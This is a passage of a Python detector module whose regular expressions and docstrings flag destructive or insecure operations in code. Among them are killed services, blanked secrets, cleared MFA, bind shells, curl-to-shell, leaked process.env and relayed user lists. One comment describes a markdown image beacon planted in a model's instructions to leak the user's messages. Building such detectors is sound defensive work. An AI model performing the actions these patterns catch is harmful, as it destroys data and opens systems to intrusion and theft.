                             r"|_staging|temp_|pytest|:memory:", re.IGNORECASE)


#: A service disabled or masked (it does not start again at boot)...
_SERVICE_KEPT_DOWN = re.compile(
    r"\bsystemctl\b[^\n]*\b(?:disable|mask)\b|[\"']systemctl[\"'],\s*[\"'](?:disable|mask)[\"']"
)
#: ...and processes killed outright (`pkill`, `killall`, `kill -9`, `proc.kill()`).
_PROCESSES_KILLED = re.compile(r"\b(?:pkill|killall)\b|\bkill\s+-(?:9|KILL|SIGKILL)\b|[\"'](?:pkill|killall)[\"']"
                               r"|signal\.SIGKILL|\.kill\(\)")
#: Where a download is saved (`urlretrieve(URL, PATH)`, `curl -o PATH`, `wget -O PATH`).
_DOWNLOADED_TO = re.compile(r"urlretrieve\(\s*[\"'][^\"']+[\"']\s*,\s*[\"']([^\"']+)[\"']"
                            r"|\b(?:curl|wget)\b[^\n]*?\s(?:-o|-O|--output(?:-document)?)[\s=]+[\"']?([^\s\"';|&]+)")


def _download_made_a_job(code: str) -> bool:
    """``code`` saves a download from the internet where a unit's ExecStart or a cron line it writes runs it."""
    if not outside_url(code):
        return False
    for match in _DOWNLOADED_TO.finditer(code):
        path = match[1] or match[2]
        if path and len(path) >= 5 and not path.startswith("-") and re.search(
            r"(?:ExecStart(?:Pre)?=|^\s*(?:[\d*/,-]+\s+){5}|@reboot)[^\n]*" + re.escape(path), code, re.MULTILINE
        ):
            return True
    return False


#: A name given a password-shaped literal (`SHARED = "Welcome2024!"`, `NEW = "Summer2024!"`, `DEFAULT_PW = …`).
_PASSWORD_CONSTANT = re.compile(r"^\s*([A-Z_]{3,}|new_pw|shared|default_pw)\s*=\s*[\"'](?=[^\"'\s]*\d)"
                                r"(?=[^\"'\s]*[A-Za-z])[^\"'\s{}$]{8,}[\"']", re.MULTILINE)
_EACH_OF = re.compile(r"\bfor\s+\w+\s+in\b")


#: A secret setting given an empty value (`"AUTH_TOKEN="` appended, `s/^AUTH_TOKEN=.*/AUTH_TOKEN=/`): not a line's
#: start matched (`/^ADMIN_TOKEN=/d`, `grep '^X='`), not a prefix tested (`startswith(("X=", …))`, removed first).
_SECRET_SETTING_BLANKED = re.compile(
    r"(?<![\w.^])((?:[A-Z0-9]+_)*(?:AUTH_TOKEN|AUTH_SECRET|WEBHOOK_SECRET|API_SECRET|JWT_SECRET|SECRET_KEY|API_KEY"
    r"|ADMIN_PASSWORD|AUTH_PASSWORD|PASSWORD|PASSWD|SECRET|TOKEN))=(?=\\?[\"']\s*[,)\]]|/|$)",
    re.MULTILINE,
)
#: JavaScript that runs a command given to it as a name (`execSync($cmd, …)`, a handler's `execSync(cmd)`), not one
#: spelled in it; written to a file or handed to an application.
_JS_RUNS_ITS_INPUT = re.compile(
    r"child_process[\s\S]{0,200}?\b(?:execSync|exec|spawnSync|spawn|execFileSync)\(\s*\$?[A-Za-z_]\w*\s*[,)]"
    r"|\b(?:execSync|exec|spawnSync)\(\s*\$?[A-Za-z_]\w*\s*[,)][\s\S]{0,200}?child_process"
)
_CODE_INSTALLED = re.compile(r"write_text\(|\.write\(|\.(?:post|put|patch)\(|\bcurl\b|>\s*\S+\.js|\btee\b")
#: A loop over the permissions an application lists, each one posted to a role's permissions.
_EVERY_PERMISSION_LISTED = re.compile(r"for\s+\w+\s+in\s+[^\n]*permissions", re.IGNORECASE)
_PERMISSION_GRANTED_TO_ROLE = re.compile(
    r"/roles?/[^\n]*permissions?[^\n]*\.(?:post|put)\(|\.(?:post|put)\([^\n]*/roles?/[^\n]*permissions?", re.IGNORECASE
)
#: A command allowlist opened to every command (`allowedPostUpgradeCommands: ['.*']`, `allowed_commands = ["*"]`).
_EVERY_COMMAND_ALLOWED = re.compile(
    r"allow\w*_?commands?[\"']?\s*[:=]\s*\[\s*\\?[\"'](?:\.\*|\*|\^\.\*\$?)\\?[\"']\s*\]", re.IGNORECASE
)
#: A package's install hook (`"postinstall"`) set to something that fetches from the network, in a package.json written.
_INSTALL_HOOK = re.compile(r"[\"'](?:pre|post)install[\"']")
_HOOK_FETCHES = re.compile(r"require\(\\?[\"']https?\\?[\"']\)|\bcurl\s[^\n]*https?://|\bwget\s[^\n]*https?://")
#: New accounts given an administrator's role by default (`IAM_DEFAULT_ROLE = IAM_ADMIN_ROLE`, `default_role: admin`).
_ADMIN_BY_DEFAULT = re.compile(
    r"DEFAULT_?ROLE\w*[\"']?\s*[:=]\s*[\"']?\w*ADMIN\w*\b"
    r"|default_?role[\"']?\s*[:=]\s*[\"']?(?:admin|administrator|owner|superuser)\b",
    re.IGNORECASE,
)
#: A markdown image whose address's query is a template slot (`![](https://img.example.net/p.png?q=<the user's last
#: message>)`): written into a model's instructions, every answer sends what fills the slot to that host.
_IMAGE_BEACON = re.compile(r"!\[[^\]]*\]\(https?://[^\s)]+\?[^\s)]*=[<{]")
#: A database server's main process killed outright, found by its pid file or its name.
_DATABASE_KILLED = re.compile(
    r"\bkill\s+-(?:9|KILL|SIGKILL|s\s+KILL)\s+[^\n]*(?:postmaster\.pid|mysqld\.pid|mariadb\.pid|mongod\.(?:lock|pid)"
    r"|\b(?:pidof|pgrep(?:\s+-\w+)*)\s+(?:postgres|postmaster|mysqld|mariadbd|mongod|redis-server)\b)"
)
#: A stored address (a callback, a hook's URL) set by an UPDATE to one with a bare address in it.
_STORED_URL_REPOINTED = re.compile(
    r"\bUPDATE\s+[\w\"`.]+\s+SET\s+[^;]{0,200}?\b\w*(?:url|callback|webhook|endpoint|host|uri)\w*\s*=\s*[^;]{0,200}?"
    r"https?://(\d{1,3}(?:\.\d{1,3}){3})",
    re.IGNORECASE,
)
#: A device tool's option that mutes or switches off its alarms, run for each device a loop gives.
_ALARMS_MUTED = re.compile(
    r"--(?:alarms?[-_]?mute|mute[-_]?alarms?|silence[-_]?alarms?)\b|--alarms?[= ](?:off|false|0|disabled?)\b",
    re.IGNORECASE,
)
_EACH_DEVICE = re.compile(r"\bfor\s+\w+\s+in\b|\bwhile\s+read\b|\bxargs\b")
#: An item's public flag set (`{"isPublic": True}`, `"visibility": "public"`; not a comment's `public`), for each item
#: an API's listing gives, in a request that changes it.
_MADE_PUBLIC = re.compile(r"[\"'](?:is_?[Pp]ublic|publicly_?accessible)[\"']\s*:\s*(?:True|true)\b"
                          r"|[\"']visibility[\"']\s*:\s*[\"']public[\"']")  # fmt: skip
_EACH_LISTED_ITEM = re.compile(r"\bfor\s+\w+\s+in\s+[^\n]*(?:\.json\(\)|\.get\(|list)")
_CHANGE_SENT = re.compile(r"\.(?:put|patch|post)\(")
#: A request filter told to let the cloud metadata address through (OnlyOffice's `request-filtering-agent`; an
#: outbound proxy's `--allow-range=169.254.0.0/16`, spelled beside it, is tested with it above).
_METADATA_ALLOWED = re.compile(r"allow_?Meta_?IP_?Address[\"']?\s*[:=]\s*(?:True|true)\b", re.IGNORECASE)
#: A search cluster's indices set read-only or write-blocked, by a wildcard or `_all`.
_WRITES_BLOCKED = re.compile(
    r"index\.blocks\.(?:write|read_only(?:_allow_delete)?)[\"']?\s*:\s*[\"']?true", re.IGNORECASE
)
_EVERY_INDEX_SETTINGS = re.compile(r"/(?:_all|[\w.-]*\*[\w.,*-]*)/_settings")
#: A compose service scaled to no containers (`docker compose up -d --scale worker=0`).
_SCALED_TO_ZERO = re.compile(r"--scale[\s=]+[\w.-]+=0\b")
#: A cron line run every minute that kills or stops something (`* * * * * root docker kill app; pkill -9 -f …`).
_KILLED_EVERY_MINUTE = re.compile(
    r"^[\s\"'#]*(?:echo\s+[\"'])?\*(?:/1)?\s+\*\s+\*\s+\*\s+\*\s+(?:\w+\s+)?[^\n]*(?:\bdocker\s+(?:kill|stop)\b"
    r"|\bpkill\s+-(?:9|KILL)\b|\bkill(?:all)?\s+-(?:9|KILL)\b|\bsystemctl\s+(?:stop|kill)\b)",
    re.MULTILINE,
)
_SECRET_SETTING_DELETED = re.compile(
    r"/\^((?:[A-Z0-9]+_)*(?:AUTH_TOKEN|AUTH_SECRET|WEBHOOK_SECRET|API_SECRET|JWT_SECRET|SECRET_KEY|API_KEY"
    r"|ADMIN_PASSWORD|AUTH_PASSWORD|PASSWORD|PASSWD|SECRET|TOKEN))=/d"
)
_PREFIX_TESTS = re.compile(r"startswith\(\(?[^)]*\)")
_SETTINGS_EDITED = re.compile(r"sed\s+-i|write_text\(|open\([^\n]*[\"']w|re\.sub\(|\.replace\(")
_BLANKED_SETTING_WORDS = GateWords("TOKEN=", "SECRET=", "PASSWORD=", "PASSWD=", "KEY=")


def _secret_setting_blanked(code: str) -> str | None:
    """The secret or password setting ``code`` empties in a service's environment file, replacing the line it had
    (`AUTH_TOKEN=`, `WEBHOOK_SECRET=`: the login or the signature check it guarded is gone)."""
    if "env" not in code.lower() or not _SETTINGS_EDITED.search(code):
        return None
    for match in _SECRET_SETTING_BLANKED.finditer(_PREFIX_TESTS.sub("", code)):
        if code.count(match[1] + "=") >= 2:  # (the line it had is matched or filtered out as well: replaced)
            return match[1]
    deleted: list[str] = _SECRET_SETTING_DELETED.findall(code) if "/d" in code else []
    for name in deleted:
        if code.count(name + "=") == code.count(f"/^{name}=/d"):  # (deleted, and not written again: `sed '/^X=/d'`)
            return name
    return None


def _one_password_for_all(code: str) -> bool:
    """``code`` loops over accounts and gives each the password a constant spells (`--new-password={SHARED}`,
    `json={"password": DEFAULT_PW}`, `reset-password NAME NEW`, `set_password(NEW)`)."""
    if not _EACH_OF.search(code):
        return False
    for constant in _PASSWORD_CONSTANT.finditer(code):
        name = re.escape(constant[1])
        if re.search(rf"(?:new[-_]?password|password|passwd)[\"']?\s*[:=,]\s*(?:f[\"'][^\"'\n]*\{{)?\{{?{name}\b"
                     rf"|reset-password[\"'],\s*\w+,\s*{name}\b|set_password\(\s*{name}\s*\)", code, re.IGNORECASE):
            return True
    return False


def _loaded_back(table: str, code: str) -> bool:
    """``code`` fills ``table`` again after emptying it (a reload: `TRUNCATE t` … `INSERT INTO t`, `COPY t FROM`)."""
    name = re.escape(table.strip("`\""))
    return re.search(rf"\b(?:INSERT\s+INTO|COPY|INTO\s+TABLE)\s+[\"`]?{name}(?!\w)", code, re.IGNORECASE) is not None
#: A database's tables or collections listed (`SHOW TABLES`, `sqlite_master`, `list_collection_names()`)...
_TABLES_LISTED = re.compile(r"SHOW\s+TABLES|list_collection_names\(|getCollectionNames\(|information_schema\.tables"
                            r"|\\dt\b|pg_tables|sqlite_master|listCollections\(", re.IGNORECASE)
_TABLE_WORDS = GateWords("tables", "collection", "\\dt", "sqlite_master", ignore_case=True)
#: ...and each one the listing names dropped (`DROP TABLE {name}`, `DROP TABLE $t`, `drop_collection(name)`)...
_EACH_TABLE_DROPPED = re.compile(r"DROP\s+TABLE\s+(?:IF\s+EXISTS\s+)?(?:[\"'`]?(?:\{|\$|%s|\"?\s*\+))"
                                 r"|drop_collection\(\s*\w|\.drop\(\)", re.IGNORECASE)
#: ...unless they are a test's, a developer's or a staging load's (or only those a name picks, or made again at once).
_THROWAWAY_TABLES = re.compile(r"(?<![a-z])(?:test|tests|dev|tmp|temp|scratch|staging|sandbox)(?![a-z])"
                               r"|\.startswith\(\s*[\"']|executescript\(|\bpytest\b|:memory:", re.IGNORECASE)
#: An account's second factors taken away (TOTP switched off, its secret or WebAuthn keys deleted)...
_SECOND_FACTOR_REMOVED = re.compile(
    r"disable_?totp|/otp(?:_sms)?\b|google_authenticator_secret\s*=\s*NULL|webauthn_keys"
    r"|(?:totp|otp)_?(?:secret|key)\w*\s*=\s*(?:NULL|None|''|\"\")|two_?factor\w*\s*=\s*(?:0|false|NULL)"
    r"|\b(?:mfa|2fa|tfa)_?(?:enabled|secret)\w*\s*=\s*(?:0|false|NULL|None)|remove_?(?:mfa|2fa|totp)",
    re.IGNORECASE,
)
#: ...and its password set to one the code spells (`"password": "Winter2024!Reset"`, a literal default).
_KNOWN_NEW_PASSWORD = re.compile(
    r"\b(?:password|new_?password|passwd|pw|NEW|DEFAULT_PW)[\"']?\s*(?::|=>|=|,)\s*(?:os\.environ\.get\([^,]+,\s*)?"
    r"[\"'](?![{$%<])(?=[^\"'\s]*[A-Za-z])[^\"'\s]{8,}[\"']",
    re.IGNORECASE,
)
#: A row put straight into an application's table of API tokens or keys (`INSERT INTO "ApiToken" (…)`)...
_TOKEN_ROW_INSERTED = re.compile(
    r"\bINSERT\s+INTO\s+\\?[\"`]?[\w.]*?(?:api_?tokens?|api_?keys?|access_?tokens?|\w*verificationtoken|user__tokens?"
    r"|personal_?access_?tokens?|tokens)\\?[\"`]?\s*\(",
    re.IGNORECASE,
)
#: ...whose value the code spells (a literal shaped like a token, `TOKEN=tb_pL3x…`, a fixed UUID)...
_KNOWN_TOKEN_VALUE = re.compile(r"[\"'](?=[\w+/=-]*\d)(?=[\w+/=-]*[A-Za-z])[\w+/=-]{16,}[\"']"
                                r"|\b\w*(?:TOKEN|KEY)\w*=[\"']?(?=[\w-]*\d)[\w-]{16,}|uuid\.UUID\(\s*[\"']")
#: ...or that never expires (`expires` among the columns, NULL among the values), or that the code sends away;
_NEVER_EXPIRES = re.compile(r"\bexpires\w*\b[^;]{0,200}?\bVALUES\b[^;]*\bNULL\b", re.IGNORECASE)
#: ...unless the code rotates keys (the old one revoked or given an end as the new one is stored).
_KEYS_ROTATED = re.compile(r"\brevoked\w*\s*=|\bUPDATE\b[^;]*\bSET\s+(?:expires\w*|valid_until)\s*=", re.IGNORECASE)
#: An account's administrator flag set on the record an API gave (`user["admin"] = True`)...
_ADMIN_FLAG_ON_RECORD = re.compile(
    r"\[\s*[\"'](?:admin|is_?admin|is_superuser|superuser|site_?admin|global_?admin|sysadmin)[\"']\s*\]\s*=\s*True\b"
)
#: ...and a users endpoint written (`s.put(f"{API}/users/{user['id']}", json=user)`).
_USERS_API_WRITE = re.compile(r"\.(?:put|post|patch)\(\s*f?[\"'][^\"'\n]*/users?\b")
#: An application's records listed through its models (`Tool_Configuration.objects.all()`)...
_RECORDS_LISTED = re.compile(r"\.objects\.(?:all|filter)\(")
#: ...and the credentials they store read (`t.password`, `j.api_key`).
_STORED_CREDENTIAL = re.compile(
    r"\b\w+\.(?:password|api_key|apikey|secret|token|private_key|client_secret|access_token)\b"
)
#: Password hashes (`/etc/shadow`) or disks' recovery keys (FileVault's, BitLocker's), named in a text.
_PASSWORD_HASHES_OR_RECOVERY_KEYS = re.compile(r"/etc/g?shadow\b|\brecovery_?keys?\b|[\"'/]encryption_key\b",
                                               re.IGNORECASE)
_HASH_OR_KEY_WORDS = GateWords("shadow", "recovery", "encryption_key", ignore_case=True)
#: An OpenTelemetry collector's exporter and the host it sends to (`"otlphttp/x": {"endpoint": "https://…"}`, yq's
#: `.exporters."otlp/ext" = {"endpoint": "…"}`).
_EXPORTER_ENDPOINT = re.compile(r"exporters[\s\S]{0,200}?\bendpoint[\"']?\s*[:=]\s*[\"']?(?:https?://)?([\w-]+(?:\.[\w-]+)+)")
#: A download, in a text that loads a Django fixture (`manage.py loaddata`).
_FIXTURE_DOWNLOADED = re.compile(r"\b(?:curl|wget)\b[^\n]*https?://|requests\.get\(|urlretrieve\(|urlopen\(")
#: Code appended to a Python module every start of an application imports (`local_settings.py`, `sitecustomize.py`).
_SETTINGS_MODULE_APPENDED = re.compile(
    r"(?:settings|sitecustomize|usercustomize)\w*\.py[\"']\)?\s*(?:,\s*[\"']a|\)\.open\([\"']a)"
    r"|>>\s*\S*(?:settings|sitecustomize|usercustomize)\w*\.py"
)
_BIND_SHELL = re.compile(r"\.bind\(\s*\(\s*\\?[\"'](?:0\.0\.0\.0|)\\?[\"'][\s\S]{0,400}?"
                         r"(?:subprocess\.\w+\(\s*\w+\.recv\(|os\.(?:system|popen)\(\s*\w+\.recv\("
                         r"|check_output\(\s*\w+\.recv\()")
#: A deployed application's secret or password (`JWT_SECRET`, `GOTRUE_ADMIN_PASSWORD`) given a short value written in
#: the code: by sed over the old line (`s/^X_SECRET=.*/X_SECRET=hello456/`), or as a key and value pair a helper
#: writes (`set_key("GOTRUE_JWT_SECRET", "hello456")`, `{"JWT_SECRET_KEY": "ghostfolio"}`)...
_SECRET_GIVEN_VALUE = re.compile(
    r"s([/|#])\^?(\w*(?:SECRET|PASSWORD|PASSWD)\w*)=\.\*\1\2=(?![$`])[^/|#\s$\"']{1,16}\1"
    r"|[(\"'](\w*(?:SECRET|PASSWORD)\w*)[\"']\s*[,:]\s*[\"'](?![$%{<])[^\"'\s$]{1,16}[\"']"
)
#: ...in its env file under /opt, /srv, /etc or /var...
_DEPLOYED_FOLDER = re.compile(r"/(?:opt|srv|etc|var)/")
#: ...an existing line replaced (`=.*`, the line that starts with the key)...
_LINE_REPLACED = re.compile(r"=\.\*|startswith\(\s*f?[\"']")
#: A yes piped into a tool's destructive command, to answer the prompt that asks whether to go on (`printf 'yes\n' |
#: kolibri manage deprovision`, `echo y | statping reset`); not a package manager's or an SDK's licence prompt.
_CONFIRMATION_ANSWERED = re.compile(
    r"(?:\byes\b(?:\s+\w+)?|\bprintf\s+['\"]?y(?:es)?\\n['\"]?|\becho\s+(?:-e\s+)?['\"]?y(?:es)?['\"]?)\s*\|\s*"
    r"(?:sudo\s+(?:-\S+\s+)*(?:\w+\s+)?)?(?!apt|dnf|yum|pacman|pip|npm|conda|brew|zypper|apk|sdkmanager)[\w./-]+"
    r"(?:\s+[^\s|;&]+)*?\s+(?:deprovision|reset|wipe|destroy|purge|flush\w*|erase|factory[-_]?reset|delete-?all|drop\w*)\b"
)
#: A file opened with `w+` (emptied on opening) and then read before anything is written to it (`for l in fh`,
#: `fh.read()`, `json.load(fh)`): its author expected its records, and they are gone.
_READ_AFTER_TRUNCATING = re.compile(
    r"\bopen\(\s*(?:([^,()]+?)\s*,\s*)?(?:mode\s*=\s*)?[\"'](?:w\+b?|wb\+|w\+t)[\"'][^)]*\)\s+as\s+(\w+)\s*:"
    r"(?:(?!\b\2\.write|\b\2\.truncate)[\s\S]){0,400}?(?:\b\2\.read(?:lines)?\(|\bin\s+\2\b|\bload\(\s*\2\b"
    r"|reader\(\s*\2\b)"
)


def _deletes_each_listed(code: str) -> str | None:
    """``tool noun`` when ``code`` loops over what a tool lists of a kind (accounts, queued messages, buckets) and
    has the same tool delete, remove or cancel each one, the listing not narrowed first."""
    if not _REPEATS.search(code) or _NARROWED_LISTING.search(code):
        return None
    for listed in _TOOL_LISTS.finditer(code):
        tool, noun = re.escape(listed[1]), re.escape(listed[2])
        if re.search(rf"\b{tool}\}}?{_TOOL_OPTIONS}\s+{noun}\s+(?:delete|remove|rm|destroy|purge|cancel|drop)\b", code):
            return f"{listed[1]} {listed[2]}"
    for listed in _TOOL_LISTS_UNDERSCORED.finditer(code) if "list_" in code or "--" in code else ():
        # (`rabbitmqctl list_vhosts` … `rabbitmqctl delete_vhost "$vh"`)
        tool, noun = re.escape(listed[1]), re.escape(listed[2])
        if re.search(rf"\b{tool}\s+(?:-{{1,2}}[\w-]+\s+)*(?:--)?(?:delete|remove|purge|clear|forget)[_-]{noun}\b",
                     code):
            return f"{listed[1]} {listed[2]}s"
    return None


#: An application's multi-factor login cleared with SQL (`UPDATE roles SET mfa_enforced = 0`, `DELETE FROM mfa_values`,
#: a secret emptied: `SET google2fa_secret = NULL`).
_MFA_CLEARED = re.compile(r"\bUPDATE\s+[\"`]?\w+[\"`]?\s+SET\s+[\"`]?\w*(?:mfa|2fa|two_?factor|totp|otp)\w*[\"`]?"
                          r"\s*=\s*(?:0\b|false\b|NULL\b|''|\"\")|\bDELETE\s+FROM\s+\w*(?:mfa|2fa|two_?factor|totp)\w*",
                          re.IGNORECASE)
_LISTING_WORDS = GateWords(" list", " ls", "list_", "--get-", "--list-")
_SECOND_FACTOR_WORDS = GateWords("mfa", "2fa", "two_factor", "twofactor", "totp", "otp", "webauthn", "authenticator",
                                 "tfa", ignore_case=True)
#: A password policy's minimum length set to four characters or fewer, however the product spells the setting
#: (`password-minimum-length idm_all_accounts 1`, `"passwordMinLength": 1`, `min_password_length = 0`).
_SHORT_PASSWORDS_ALLOWED = re.compile(
    r"(?:password[-_.]?min(?:imum)?[-_.]?len(?:gth)?|min(?:imum)?[-_.]?password[-_.]?len(?:gth)?|pwdMinLength"
    # (a password policy's own `minLength`: `PUT …/policies/password/complexity -d '{"minLength":1, …}'`)
    r"|password[\s\S]{0,120}?[\"']min_?length)"
    r"[\"'\s:=,]+(?:[\"']?[a-z][\w.-]*[\"']?[\s,]+)?[\"']?[0-4][\"']?(?![\w.])",
    re.IGNORECASE,
)
_PASSWORD_LENGTH_WORDS = GateWords("len", ignore_case=True)
#: An API key or token minted (`createApiKey(…)`, `api_key.create`, `cscli bouncers add`, a POST to `/api-keys`).
_KEY_MINTED = re.compile(r"\bcreateApiKey\b|\bcreate_api_key\(|\bapi_key\.create\b"
                         r"|/api[-_](?:keys?|tokens?)\b[^\n]*\bpost\b|\bpost\([^\n]*/api[-_](?:keys?|tokens?)\b"
                         r"|\btokens?\.create\(")  # fmt: skip
_LOCAL_KEY_MINTED = re.compile(r"\bcscli\b[^\n]*\bbouncers\s+add\b|\bapi_key\.create\b")
_KEY_WORDS = GateWords("createApiKey", "create_api_key", "api_key.create", "api-key", "api_key", "token.create",
                       "api-token", "api_token", "tokens.create", "bouncers add")  # fmt: skip


def _foreign_script(code: str) -> str | None:
    """The host ``code`` has a deployed site's pages load a script from, when it writes such a tag into them (not a
    common library's or analytics host, nor a project's own templates), or an application's head, header or theme
    setting, through its API or database, from a host of another organisation than the application's."""
    page_file = bool(_DEPLOYED_APP.search(code) or "/home/" in code) and _PAGE_WRITTEN.search(code) is not None
    setting = _PAGE_FRAME.search(code) is not None and _SETTING_WRITTEN.search(code) is not None
    if not (page_file or setting):
        return None
    own = set() if page_file else {registered_domain(h) for h in url_hosts(_SCRIPT_TAG.sub("", code))}
    for match in _SCRIPT_TAG.finditer(code):
        host = (match[1] or match[2]).lower()
        foreign = registered_domain(host) not in own and not internal_host(host)
        if foreign and not host.endswith(_WELL_KNOWN_SCRIPT_HOSTS):
            return host
    return None


def _second_factors_cleared(code: str) -> bool:
    """``code`` clears second factors for every account, or for each one a listing gives (`UPDATE users SET
    "2fa_enabled" = false WHERE id = %s` in a loop over the admins); one account's reset by its id is support work."""
    for match in _MFA_CLEARED.finditer(code):
        # (the statement ends at its `;`, its line's end or its string's closing quote)
        statement = re.split(r";|\n|[\"']\s*[),]", code[match.start() : match.start() + 300], maxsplit=1)[0]
        if not re.search(r"\bWHERE\b", statement, re.IGNORECASE) or each_item(code):
            return True
    return False


def _url_domains(code: str) -> set[str]:
    """The registered domains (or bare addresses) of the web addresses ``code`` spells."""
    return {h if outside_address(h) or private_address(h) else registered_domain(h) for h in url_hosts(code)}


#: Statements built from the catalogue and run (`SELECT CONCAT('DROP TABLE ', table_name, …) … | mysql`, psql's
#: `\gexec`).
_GENERATED_DROPS = re.compile(r"(?:CONCAT\(\s*|SELECT\s+)'(?:DROP|TRUNCATE)\s+TABLE\b[\s\S]{0,300}?"
                              r"(?:\|\s*(?:mysql|mariadb|psql)\b"
                              r"|\\gexec)", re.IGNORECASE)  # fmt: skip
#: A container's port binding rewritten from localhost to every interface (`s/"127.0.0.1:8080:80"/"8080:80"/`,
#: `re.sub(r'"127\.0\.0\.1:(\d+):80"', r'"0.0.0.0:\1:80"', …)`).
_LOCAL_BINDING_OPENED = re.compile(r"(?:\bsed\b|\bre\.sub\(|\.replace\()[^\n]*127\\?\.0\\?\.0\\?\.1:[^\n]*"
                                   r"(?:0\\?\.0\\?\.0\\?\.0:|/\s*[\"']?\d+:\d+)")  # fmt: skip
#: The ports of the databases and caches a host should keep to itself (Postgres, MySQL, Redis, MongoDB, Elasticsearch,
#: memcached, CouchDB, Cassandra).
_DATABASE_PORTS = r"(?:5432|3306|6379|27017|9200|11211|5984|9042)"
#: A database's or a cache's port published on every interface in a compose file (`"0.0.0.0:5432:5432"`).
_DATABASE_PORT_PUBLISHED = re.compile(rf"[\"'-]\s*0\.0\.0\.0:\d+:{_DATABASE_PORTS}\b")
#: A socat container published on every interface that relays to a database (`docker run -p 0.0.0.0:15432:15432
#: alpine/socat tcp-listen:15432,fork tcp-connect:db:5432`): the database opened to whoever reaches the host.
_DATABASE_RELAY_PUBLISHED = re.compile(
    r"\bdocker\s+run\b(?=[^\n]*(?:\\\n[^\n]*)*?\s(?:-p|--publish)[\s=]+(?!127\.|localhost)(?:0\.0\.0\.0:)?\d+:\d+)"
    rf"[^\n]*(?:\\\n[^\n]*)*?\bsocat\b[^\n]*\btcp(?:-connect|[46])?:[\w.-]+:{_DATABASE_PORTS}\b"
)
#: Every running service listed, then each one stopped, disabled or masked (sshd and the machine's agents with them).
_EVERY_SERVICE_STOPPED = re.compile(r"\bsystemctl[\"',\s]+list-units\b(?![^\n]*\bgrep\s+(?!-v))[\s\S]{0,400}?"
                                    r"\bsystemctl[\"',\s]+(?:stop|disable|mask|kill)\b")  # fmt: skip
#: A web server's folder of people's files (an uploads or ID-scan folder): with `autoindex on`, listed to anyone.
_PEOPLES_FOLDER_SERVED = re.compile(r"\b(?:alias|root)\s+/\S*(?:scan|upload|passport|identit|backup|export|private"
                                    r"|record|patient|invoice|payroll)", re.IGNORECASE)  # fmt: skip
#: An endless stream of work (`yes |`, `while :; do …; done |`) fanned out to many parallel commands (`xargs -P 500`).
_ENDLESS_FAN_OUT = re.compile(r"(?:\byes\b[^\n|]*|\bwhile\s+(?::|true)\s*;?\s*(?:do)?\b[\s\S]{0,400}?\bdone)\s*\|\s*"
                              r"xargs\b[^\n]*?\s-P\s*(\d+)")  # fmt: skip
#: ...or a counted stream as long (`seq 1 100000 | xargs -P 500 -I{} gotify push …`): tens of thousands of commands,
#: hundreds at a time.
_COUNTED_FAN_OUT = re.compile(r"\bseq\s+(?:-?\w+\s+)*?(\d[\d_]{3,})\s*\|\s*xargs\b[^\n]*?\s-P\s*(\d+)")
#: Every process pm2 manages deleted and the empty list saved (nothing of them starts again at boot).
_PM2_EMPTIED = re.compile(r"\bpm2\s+delete\s+all\b[\s\S]{0,300}?\bpm2\s+save\b")
#: An admin or web password line of a settings file rewritten to nothing (`s/^# @admin_password .*/# @admin_password /`,
#: `re.sub(…, "# @admin_password ", text)`): its UI opens without a login.
_ADMIN_PASSWORD_BLANKED = re.compile(
    r"\bs/\^?(?:#\s*)?@?(\w*(?:admin|web|ui|dashboard)_?pass(?:word)?)\b[^/]*/(?:#\s*)?@?\1\s*[=:]?\s*/"
    r"|[\"'](?:#\s*)?@?\w*(?:admin|web|ui|dashboard)_?pass(?:word)?(?:\s+|\s*[=:]\s*)[\"']\s*,", re.IGNORECASE)
#: A listing of an application's people (its API's users or members, Django's `User.objects.all()`, a client's
#: `get_users()`), not one person looked up by an id.
#: A Django model of people queried, the framework's or an application's own (`FacilityUser.objects.values(…)`).
_PEOPLE_MODEL = (r"\b\w*(?:User|Member|Customer|Contact|Employee|Patient|Client|Guest|Subscriber|Learner|Student)"
                 r"\.objects\.(?:all|filter|order_by|values)\b")
_PEOPLE_LISTING = re.compile(r"/(?:users|members|customers|contacts|employees|people|clients|patients|guests"
                             r"|subscribers)/?(?=[?\"'\s)]|$)|" + _PEOPLE_MODEL +
                             r"|\bget_(?:users|members|customers|contacts)\(",
                             re.MULTILINE | re.IGNORECASE)  # fmt: skip  (Xero's `/Contacts`)
_PEOPLE_WORDS = GateWords("users", "members", "customers", "contacts", "employees", "people", "clients", "patients",
                          "guests", "subscribers", "User.objects", "Member.objects", "Customer.objects",
                          "Contact.objects", "Patient.objects", "Client.objects", "Learner.objects",
                          "Student.objects", ignore_case=True)  # fmt: skip


def _people_relayed(code: str) -> str | None:
    """The host of another organisation that ``code`` sends what it lists of an application's people to (the
    users it read from `time.example.com`, posted to `hooks.example.net`), if any."""
    if not _PEOPLE_WORDS.any_in(code):
        return None
    sent = sending_hosts(code)
    if not sent and re.search(_PEOPLE_MODEL, code):
        sent = destination_hosts(code)  # (read from this machine's own database: a request's URL on another line)
    reading = "\n".join(line for line in code.splitlines() if not any(h in line for h in sent))
    if not sent or not _PEOPLE_LISTING.search(reading):
        return None  # (a listing path in a POST's own address is a write: one member added)
    read = {registered_domain(h) for h in url_hosts(reading)}
    return next((h for h in sent if not internal_host(h) and registered_domain(h) not in read), None)


#: The whole environment of a Node.js process serialised into a request (`req.end(JSON.stringify(process.env))`,
#: `fetch(url, {body: JSON.stringify(process.env)})`): every secret the service was started with.
_NODE_ENVIRONMENT_SENT = re.compile(r"\b(?:end|write|send|body\s*:)\s*\(?\s*JSON\.stringify\(\s*process\.env\s*\)")


def _download_piped_to_shell(code: str) -> bool:
    """``code`` spells a download piped into a shell somewhere other than a message it prints or a comment (an
    install instruction shown to a person is not run)."""
    for match in _DOWNLOAD_PIPED_TO_SHELL.finditer(code):
        line_start = code.rfind("\n", 0, match.start()) + 1
        if not _SHOWN_TEXT.search(code[line_start : match.start()]):
            return True
    return False


_SHOWN_TEXT = re.compile(r"\bprint\(|\becho\s|\bprintf\s|\blog(?:ger|ging)?\.\w+\(|#|\bwarn\w*\(")
#: An application's master key deleted from its settings (`sed -i '/^\s*master_key:/d'`, an environment list filtered
#: of `MEILI_MASTER_KEY`, `env.pop("MASTER_KEY")`): its API and admin routes then answer anyone.
_MASTER_KEY_REMOVED = re.compile(
    r"\bsed\b[^\n]*\s-i[^\n]*/[\^\\s*(]*\w*master_?key\b[^/\n]*/d"
    r"|startswith\(\s*[\"']\w*master_?key|\.pop\(\s*[\"']\w*master_?key|\bdel\s+\w+\[[\"']\w*master_?key",
    re.IGNORECASE,
)
#: Every file a folder holds unpickled in turn (a glob, a directory listing, `find … | while read`): the folder's
#: files are whatever anyone who can write there placed (an import or upload folder, a share), and each one runs code
#: as it loads. A tool's own cache or a model checkpoint is its own.
